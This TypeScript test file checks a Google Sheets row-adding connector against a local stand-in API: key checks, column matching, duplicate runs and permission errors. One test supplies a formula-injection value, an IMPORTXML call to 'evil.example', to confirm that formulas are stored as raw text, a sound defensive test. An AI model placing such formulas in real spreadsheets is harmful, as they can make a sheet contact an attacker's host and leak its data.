import { generateKeyPairSync } from "node:crypto";
import { afterEach, beforeEach, expect, test } from "vitest";
import { startGoogleSheets } from "../../testing/stand-ins/google-sheets.ts";
import { openTestIo, rerouted, runInput, targetOf } from "../../testing/stand-ins/open-io.ts";
import { googleSheets } from "./google-sheets.ts";
import type { Io } from "./io.ts";

const NOW = Date.UTC(2026, 2, 2, 9, 30);
const EMAIL = "hookline@acme.iam.gserviceaccount.com";
const pair = generateKeyPairSync("rsa", {
  modulusLength: 2048,
  privateKeyEncoding: { type: "pkcs8", format: "pem" },
  publicKeyEncoding: { type: "spki", format: "pem" },
});
const keyOf = (privateKey: string) =>
  JSON.stringify({ type: "service_account", client_email: EMAIL, private_key: privateKey });
const connection = { key: keyOf(pair.privateKey) };
const settings = {
  spreadsheet: "https://docs.google.com/spreadsheets/d/1q2w3e4r5t/edit#gid=0",
  sheet: "Users",
};
const target = targetOf(googleSheets, "add_row");

let there: Awaited<ReturnType<typeof startGoogleSheets>>;
let opened: ReturnType<typeof openTestIo>;
let io: Io;
beforeEach(async () => {
  there = await startGoogleSheets(EMAIL, pair.publicKey, () => NOW);
  opened = openTestIo();
  const origins = {
    "https://oauth2.googleapis.com": there.origin,
    "https://sheets.googleapis.com": there.origin,
  };
  io = { ...rerouted(opened, origins), now: () => NOW };
});
afterEach(async () => {
  opened.close();
  await there.close();
});

const add = (values: object, over: object = {}) =>
  target.run(io, runInput({ connection, settings: { ...settings, ...over }, values: { ...values } }));

test("the key file is tried, and says whom to share sheets with", async () => {
  expect(await googleSheets.check?.(io, connection)).toContain(EMAIL);
  const other = generateKeyPairSync("rsa", { modulusLength: 2048 }).privateKey.export({
    type: "pkcs8",
    format: "pem",
  });
  await expect(googleSheets.check?.(io, { key: keyOf(String(other)) })).rejects.toMatchObject({
    kind: "no",
    code: "unauthorized",
    message: expect.stringContaining("Invalid JWT Signature"),
  });
  await expect(googleSheets.check?.(io, { key: "AIza-an-api-key" })).rejects.toThrow(
    "no key of a service account",
  );
});

test("sheets and the first row's titles are picked from", async () => {
  expect(await target.options?.(io, connection, settings, "sheet")).toEqual([
    { value: "Users", label: "Users" },
  ]);
  const fields = await target.fields(io, connection, { ...settings, key_column: "Run" });
  expect(fields.map(({ id }) => id)).toEqual(["Email", "Name"]);
});

test("a row is added by the columns' titles, as it is: a formula that somebody typed stays text", async () => {
  const added = await add({ Name: '=IMPORTXML("http://evil.example")', Email: "bruce@example.com" });
  expect(added.summary).toBe("Added a row at Users!A2:C2");
  expect(there.rows[1]).toEqual(["bruce@example.com", '=IMPORTXML("http://evil.example")', ""]);
  expect(there.requests.at(-1)?.query.get("valueInputOption")).toBe("RAW");
});

test("columns may be moved, and one that is gone is named", async () => {
  there.rows[0] = ["Name", "Email"];
  await add({ Email: "bruce@example.com", Name: "Bruce" });
  expect(there.rows[1]).toEqual(["Bruce", "bruce@example.com"]);
  await expect(add({ Telephone: "1" })).rejects.toThrow("no column “Telephone”");
});

test("the same run adds its row once where there is a column for its key", async () => {
  await add({ Email: "bruce@example.com" }, { key_column: "Run" });
  expect((await add({ Email: "bruce@example.com" }, { key_column: "Run" })).summary).toContain("before");
  expect(there.rows.length).toBe(2);
});

test("a sheet that isn't shared is told so", async () => {
  there.troubleNext(
    { json: { access_token: "ya29.stand-in" } },
    { status: 403, json: { error: { code: 403, message: "The caller does not have permission" } } },
  );
  await expect(add({ Email: "bruce@example.com" })).rejects.toThrow(/does not have permission.*shared with/);
});
